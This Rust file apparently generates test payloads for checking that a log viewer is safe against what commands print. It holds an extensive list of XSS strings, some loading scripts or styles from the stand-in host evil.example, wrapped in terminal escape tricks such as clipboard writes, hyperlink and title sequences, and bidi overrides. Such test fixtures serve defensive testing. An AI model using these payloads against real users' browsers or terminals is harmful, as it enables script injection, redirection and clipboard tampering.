//! What a command could print to get at whoever reads its log: every kind of markup in every kind of wrapping.

/// Markup that would do something: it calls `alert`, loads something, or leaves the log.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "</pre><script>alert(1)</script>",
    "</span></pre></section></main></body></html><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover=alert(1) x='",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "data: {\"text\":\"<script>alert(1)</script>\"}\n\nevent: end\ndata: {}\n\n",
];

/// What terminals understand, around, inside and in the place of markup.
fn wrapped(markup: &str) -> Vec<Vec<u8>> {
    let (one, two) = markup.split_at(markup.char_indices().nth(4).map_or(0, |(at, _)| at));
    let text = [
        format!("{markup}\n"),
        format!("\x1b[31m{markup}\x1b[0m\n"),
        format!("{one}\x1b[0m{two}\n"),
        format!("\x1b]8;;{markup}\x07link\x1b]8;;\x07\n"),
        format!("\x1b]8;;javascript:alert(1)\x1b\\{markup}\x1b]8;;\x1b\\\n"),
        format!("\x1b]0;{markup}\n"),
        format!("\x1b]52;c;{markup}\x07\x1b[2J\x1b[1;1H{markup}\n"),
        format!("harmless\r{markup}\r\n"),
        format!("{one}\x08\x08\x7f{two}\n"),
        format!("\u{202e}{markup}\u{2066}\u{200b}\u{feff}\n"),
        format!("\x1b[\"{markup}m\x1b[31;\">{markup}m\n"),
        format!("\u{9b}31m{markup}\u{9c}\n"),
    ];
    let mut all: Vec<Vec<u8>> = text.map(String::into_bytes).into();
    all.push([one.as_bytes(), b"\0\xff\xc0\xbc", two.as_bytes(), b"\n"].concat());
    all
}

/// Each payload ends its line.
pub fn payloads() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = MARKUP.iter().flat_map(|markup| wrapped(markup)).collect();
    // every character that turns or hides text, every control, and colours without an end
    let odd = (0..=0x9f)
        .chain(0x200b..=0x200f)
        .chain(0x2028..=0x202e)
        .chain(0x2060..=0x206f)
        .chain([0xad, 0x61c, 0xfeff, 0xe0041]);
    let odd = odd.filter_map(char::from_u32);
    all.push(odd.flat_map(|c| format!("a{c}b").into_bytes()).chain(*b"\n").collect());
    all.push([b"\x1b[1;3;4;7;8;9;31;41m".repeat(500), b"end\n".to_vec()].concat());
    all.push(
        (0..=255)
            .flat_map(|n| format!("\x1b[38;5;{n};48;5;{}mx", 255 - n).into_bytes())
            .chain(*b"\n")
            .collect(),
    );
    all.push(
        ["Z".to_owned(), "\u{336}\u{30d}\u{489}".repeat(3000), "\n".to_owned()]
            .concat()
            .into_bytes(),
    );
    all
}
